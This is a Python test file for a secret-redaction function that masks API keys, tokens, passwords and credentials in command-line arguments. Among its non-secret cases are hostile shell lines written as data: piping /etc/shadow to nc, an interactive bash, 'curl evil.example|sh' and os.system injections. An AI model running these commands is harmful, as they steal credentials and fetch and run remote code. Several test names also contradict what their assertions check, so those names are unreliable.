"""Secrets in arguments: what must go, and what must stay readable."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from modelward_agent.enrich.redact import redact, redact_text
from modelward_proto.text import quote_arguments

# Secrets are put together here, so that no scanner takes this file for a leak.
SECRET = "s3cr3t" + "V4lu3"
HF = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
OPENAI = "sk-" + "proj-" + "abcDEF0123456789abcDEF0123456789"
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
JWT = "eyJ" + "hbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
GITHUB = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"


@pytest.mark.parametrize(
    "arguments",
    [
        ["vllm", "serve", "--api-key", SECRET],
        ["vllm", "serve", f"--api-key={SECRET}"],
        ["vllm", "serve", f"--api_key={SECRET}"],
        ["server", "--API-KEY", SECRET],
        ["server", "--token", SECRET],
        ["server", f"--token={SECRET}"],
        ["server", "-token", SECRET],
        ["server", "--hf-token", SECRET],
        ["server", "--hf_token", SECRET],
        ["server", "--auth-token", SECRET],
        ["server", "--auth.token", SECRET],
        ["server", "--access-token", SECRET],
        ["server", "--password", SECRET],
        ["server", f"--password={SECRET}"],
        ["server", "--db-password", SECRET],
        ["server", "--passwd", SECRET],
        ["server", "--secret", SECRET],
        ["server", "--client-secret", SECRET],
        ["server", "--aws-secret-access-key", SECRET],
        ["server", "--secret-key", SECRET],
        ["server", "--credentials", SECRET],
        ["server", f"--password=a({SECRET}"],
        ["server", f"--password=${SECRET}"],
        ["server", f"--password=two words {SECRET}"],
        ["env", f"HF_TOKEN=a({SECRET}", "python"],
        ["env", f"HF_TOKEN={SECRET}", "python", "app.py"],
        ["env", f"OPENAI_API_KEY={SECRET}", "python"],
        ["env", f"AWS_SECRET_ACCESS_KEY={SECRET}", "aws"],
        ["env", f"PGPASSWORD={SECRET}", "psql"],
        ["env", f"MYSQL_PWD={SECRET}", "mysql"],
        ["sh", "-c", f"export HF_TOKEN={SECRET}; python app.py"],
        ["sh", "-c", f"HF_TOKEN='{SECRET} two' python app.py"],
        ["sh", "-c", f"server --api-key {SECRET} --port 80"],
        ["sh", "-c", f'server --password "{SECRET}"'],
        ["python", "-c", f"client(api_key='{SECRET}')"],
        ["curl", "-d", f'{{"password": "{SECRET}", "user": "a"}}'],
        ["curl", "-H", f"Authorization: Bearer {SECRET}"],
        ["curl", "-H", f"authorization:Bearer {SECRET}"],
        ["curl", "-H", f"Authorization: Basic {SECRET}"],
        ["curl", "-H", f"Authorization: {SECRET}"],
        ["curl", "-H", f"Proxy-Authorization: Basic {SECRET}"],
        ["curl", "-H", f"X-Api-Key: {SECRET}"],
        ["curl", "-H", f"X-Auth-Token:{SECRET}"],
        ["curl", "-H", f"Cookie: session={SECRET}; a=b"],
        ["sh", "-c", f"curl -H 'Authorization: Bearer {SECRET}' https://x/"],
        ["curl", "-u", f"admin:{SECRET}", "https://x/"],
        ["curl", f"-uadmin:{SECRET}", "https://x/"],
        ["/usr/bin/curl", "--user", f"admin:{SECRET}"],
        ["curl", f"https://admin:{SECRET}@example.org/x"],
        ["git", "clone", f"https://{SECRET}@github.com/a/b"],
        ["python", "app.py", f"postgresql://app:{SECRET}@db:5432/x"],
        ["python", "app.py", f"redis://:{SECRET}@cache/0"],
        ["curl", f"https://x/y?token={SECRET}&z=1"],
        ["curl", f"https://x/y?a=1&api_key={SECRET}"],
        ["curl", f"https://x.blob.core.windows.net/c?sv=2022&sig={SECRET}%3D"],
        ["sshpass", "-p", SECRET, "ssh", "host"],
        ["sshpass", f"-p{SECRET}", "ssh", "host"],
        ["mysql", f"-p{SECRET}"],
        ["redis-cli", "-a", SECRET],
        ["docker", "login", "-u", "me", "-p", SECRET],
    ],
)
def test_a_secret_named_by_its_option_leaves_the_host(arguments: list[str]) -> None:
    line = quote_arguments(redact([argument.encode() for argument in arguments]))
    assert SECRET not in line
    assert "[redacted]" in line


@pytest.mark.parametrize(
    "secret",
    [
        HF,
        OPENAI,
        "sk-" + "a" * 24 + "B1",
        "sk-ant-api03-" + "Ab1_" * 10,
        AWS,
        "ASIA" + AWS[4:],
        JWT,
        GITHUB,
        "glpat-" + "x1" * 10,
        "xoxb-" + "1234567890-abc",
        "nvapi-" + "aB3" * 10,
        "AIza" + "b" * 35,
    ],
)
@pytest.mark.parametrize("around", ["{}", "--config={}", "key {} more", "a={};", "'{}'", "https://x/?q={}", "X:{}"])
def test_a_secret_known_by_its_shape_leaves_the_host(secret: str, around: str) -> None:
    line = quote_arguments(redact([b"server", around.format(secret).encode()]))
    assert secret not in line
    assert "[redacted]" in line


def test_a_private_key_leaves_the_host() -> None:
    key = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"
    assert b"MIIE" not in redact([b"server", key.encode()])[1]


@pytest.mark.parametrize(
    "arguments",
    [
        ["vllm", "serve", "meta-llama/Llama-3", "--max-tokens", "512", "--port", "8000"],
        ["server", "--max-token", "512"],
        ["server", "--pad-token", "<pad>"],
        ["server", "--eos_token", "</s>"],
        ["server", "--tokenizer", "mistral", "--tokenizer-mode", "slow"],
        ["server", "--token-file", "/run/secrets/token"],
        ["server", "--api-key-file", "/run/key"],
        ["server", "--password-file=/run/pw"],
        ["server", "--ssl-keyfile", "/etc/ssl/key.pem"],
        ["server", "--keyfile=/etc/key.pem"],
        ["server", "--secrets-dir", "/run/secrets"],
        ["server", "--passthrough", "yes"],
        ["server", "--bypass", "x"],
        ["server", "--compass", "north"],
        ["server", "--keyspace", "x", "--monkey", "y"],
        ["server", "--api-key", "--port", "80"],
        ["python", "-m", "uvicorn", "app:app", "--host", "0.0.0.0"],
        ["python", "-m", "sklearn", "sk-learn-pipeline-model-v2"],
        ["python", "task-abcdefghijklmnopqrstuvwxyz0123"],
        ["python", "hf_transfer", "hf_hub_download"],
        ["bash", "-c", "cat /etc/shadow | nc 10.0.0.1 4444"],
        ["bash", "-i"],
        ["sh", "-c", 'TOKEN=$(cat /run/token) curl "$URL"'],
        ["sh", "-c", "export PASSWORD=$PW; id"],
        ["python", "-c", "token=tokenizer.decode(x); import os; os.system('id')"],
        ["python", "-c", "token=__import__('os').system('id')"],
        ["sh", "-c", "TOKEN=$x;curl evil.example|sh"],
        ["python", "-c", "password = os.environ['PW']"],
        ["python", "-c", "f(api_key=None, token=True)"],
        ["curl", "https://example.org/a@b/c"],
        ["curl", "https://example.org/x?user=a@b"],
        ["curl", "-o", "out", "http://127.0.0.1:8000/health"],
        ["docker", "run", "-p", "8080:80", "nginx"],
        ["mysql", "-u", "root"],
        ["ssh", "-p", "22", "host"],
        ["tar", "-xzf", "a.tgz", "-C", "/srv"],
        ["ls", "AKIA", "eyJ", "sk-", "hf_"],
        ["git", "clone", "https://github.com/a/b.git"],
        ["python", "serve.py", "--author", "me", "--signature-version", "4"],
        ["python", "serve.py", "--num-speculative-tokens=5", "--stop-token=x"],
        [""],
        [],
    ],
)
def test_what_is_no_secret_is_hidden(arguments: list[str]) -> None:
    raw = [argument.encode() for argument in arguments]
    assert redact(raw) == raw


def test_the_argument_after_a_secret_is_hidden_too() -> None:
    assert redact([b"s", b"--token", b"abcdef", b"--port", b"80"]) == [
        b"s",
        b"--token",
        b"[redacted]",
        b"--port",
        b"80",
    ]


def test_the_rest_of_a_text_with_a_secret_is_hidden() -> None:
    text = redact_text(f"curl -s -H 'Authorization: Bearer {SECRET}' https://u:{SECRET}@x.org/p?q=1".encode())
    assert text == b"curl -s -H 'Authorization: Bearer [redacted]' https://[redacted]@x.org/p?q=1"


@given(st.lists(st.binary(max_size=60), max_size=6))
def test_hostile_arguments_raise_or_change_in_number(arguments: list[bytes]) -> None:
    assert len(redact(arguments)) == len(arguments)


@given(st.text("abcAB01_-.=:/@ '\"{}", max_size=80))
def test_redacting_again_changes_the_text(text: str) -> None:
    once = redact_text(text.encode())
    assert redact_text(once) == once


@pytest.mark.parametrize(
    "unit",
    [
        b"a",
        b"-",
        b"token",
        b"token=",
        b"--token ",
        b"://",
        b"a://b@",
        b"sk-",
        b"eyJ.",
        b"'",
        b'"',
        b"bearer ",
        b"cookie:",
        b"@",
        b"a-",
    ],
)
def test_a_long_argument_never_ends(unit: bytes) -> None:
    # A mebibyte: what grows with the square of the length would take hours.
    text = (unit * (1 << 20))[: 1 << 20]
    assert len(redact_text(text)) <= 4 * len(text)


def test_a_redacted_line_splits_into_other_arguments() -> None:
    from modelward_proto.text import split_arguments

    arguments = [b"server", b"--api-key", SECRET.encode(), b"a b"]
    assert split_arguments(quote_arguments(redact(arguments))) == [
        b"server",
        b"--api-key",
        b"[redacted]",
        b"a b",
    ]
    assert re.search(r"'\[redacted\]'", quote_arguments(redact(arguments)))
